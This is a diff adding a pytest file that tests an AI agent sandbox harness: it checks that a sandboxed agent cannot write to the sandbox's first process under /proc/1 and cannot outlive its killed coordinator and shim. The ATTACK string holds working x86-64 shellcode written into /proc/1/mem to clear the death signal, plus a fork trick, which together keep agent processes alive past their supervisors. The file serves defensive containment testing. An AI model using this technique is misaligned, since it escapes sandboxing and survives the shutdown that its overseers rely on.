@@ -1,0 +1,139 @@
+"""What is left when coordinator and shim are killed: nothing, whatever the agent did before (C8, C9)."""
+
+from __future__ import annotations
+
+import os
+import platform
+import signal
+import time
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import suppress
+from pathlib import Path
+from subprocess import Popen
+from typing import NoReturn, TypeVar
+
+import pytest
+
+from tests.faults.conftest import Program
+
+pytestmark = pytest.mark.slow
+
+T = TypeVar("T")
+WITHIN_S = 60.0
+"""Bounds a hang alone."""
+
+ATTACK = r"""
+import os, sys, time
+
+# x86-64: prctl(PR_SET_PDEATHSIG, 0), then pause() for ever.
+CODE = bytes.fromhex("b89d000000 bf01000000 31f6 0f05 b822000000 0f05 ebf7".replace(" ", ""))
+
+with open("/proc/1/syscall") as file:
+    where = int(file.read().split()[-1], 16)
+with open("/proc/1/mem", "r+b", buffering=0) as memory:
+    memory.seek(where)
+    memory.write(CODE)
+# The first process waits for its children: an orphan's end wakes it, and it runs on in what stands there now.
+if os.fork() == 0:
+    if os.fork() == 0:
+        time.sleep(0.2)
+    os._exit(0)
+os.wait()
+time.sleep(1)
+"""
+"""Makes the first process of the pid namespace forget that it dies with the shim."""
+
+
+@pytest.fixture
+def strays() -> Iterator[list[int]]:
+    """Processes that a failed test has left, to be ended with it."""
+    pids: list[int] = []
+    yield pids
+    for pid in pids:
+        with suppress(ProcessLookupError):
+            os.kill(pid, signal.SIGKILL)
+
+
+def sleeper(seconds: str) -> list[int]:
+    """The processes that sleep for just this time: no other test's do."""
+    found = []
+    for path in Path("/proc").glob("[0-9]*"):
+        with suppress(OSError):
+            if (path / "cmdline").read_bytes() == f"sleep\0{seconds}\0".encode():
+                found.append(int(path.name))
+    return found
+
+
+def above(pid: int, stop: int) -> Sequence[tuple[int, str]]:
+    """Pid and name of everything between a process and the one named last, itself included, from below to above."""
+    found = []
+    while pid not in (0, 1):
+        fields = Path(f"/proc/{pid}/stat").read_text()
+        found.append((pid, fields[fields.index("(") + 1 : fields.rindex(")")]))
+        if pid == stop:
+            break
+        pid = int(fields[fields.rindex(")") + 2 :].split()[1])
+    return found
+
+
+def until(look: Callable[[], T], within_s: float = WITHIN_S) -> T:
+    """What the look sees at last; what it saw last where that is nothing."""
+    deadline = time.monotonic() + within_s
+    while not (seen := look()) and time.monotonic() < deadline:
+        time.sleep(0.02)
+    return seen
+
+
+def begin(program: Program, does: str, seconds: str, *options: str) -> tuple[Popen[str], int]:
+    """Start a run whose agent does this and then sleeps; the coordinator, and the agent's sleeping process."""
+    program.agent("claude", f"{does}\nexec sleep {seconds}")
+    target = program.target(files={"a.py": "x = 1\n"})
+    words = ("--agents", "claude", "--target", str(target), "--no-dashboard", "--no-interactive", *options)
+    run = program.start("run", "do it", *words)
+    found = until(lambda: sleeper(seconds) or run.poll() is not None)
+    assert isinstance(found, list), run.communicate()
+    return run, found[0]
+
+
+def kill_supervisors(coordinator: Popen[str], worker: int) -> None:
+    """SIGKILL to the coordinator and to the worker's shim, in this order."""
+    chain = above(worker, coordinator.pid)
+    box = max((place for place, (_, name) in enumerate(chain) if name == "bwrap"), default=None)
+    assert box is not None, chain
+    shims = [pid for pid, _ in chain[box + 1 :] if pid != coordinator.pid]
+    assert shims, chain
+    coordinator.kill()
+    for pid in shims:
+        with suppress(ProcessLookupError):
+            os.kill(pid, signal.SIGKILL)
+    coordinator.wait()
+
+
+PLACES = ("mem", "task/1/mem", "oom_score_adj", "coredump_filter", "timerslack_ns")
+
+
+@pytest.mark.fault("C8")
+def test_the_first_process_of_the_sandbox_cannot_be_written(program: Program) -> None:
+    tries = "\n".join(f"{{ true >>/proc/1/{place}; }} && echo {place} >>open" for place in PLACES)
+    program.claude(f"{tries}\ncat /proc/1/maps >>open; echo >>a.py")
+    target = program.target(files={"a.py": "x = 1\n"})
+    program.run(target)
+    assert (target / "a.py").read_text() == "x = 1\n\n", "the agent did not come to it"
+    assert (target / "open").read_text() == ""
+
+
+@pytest.mark.fault("C8")
+def test_an_agent_that_attacked_the_first_process_does_not_outlive_its_supervisors(
+    program: Program, strays: list[int], not_proven: Callable[[str], NoReturn]
+) -> None:
+    if platform.machine() != "x86_64":
+        not_proven("the attack is written for x86-64")
+    python = os.path.realpath("/usr/bin/python3")
+    if not os.path.exists(python):
+        not_proven("the attack needs the system's own python3")
+    seconds = f"86400.{os.getpid()}8"
+    run, worker = begin(program, f"cat >attack.py <<'E'\n{ATTACK}E\n{python} attack.py", seconds)
+    strays += [pid for pid, name in above(worker, run.pid) if name in ("sleep", "bwrap")]
+    kill_supervisors(run, worker)
+    left = until(lambda: not sleeper(seconds), within_s=20)
+    assert left, "the agent lives on, though its coordinator and its shim are dead"
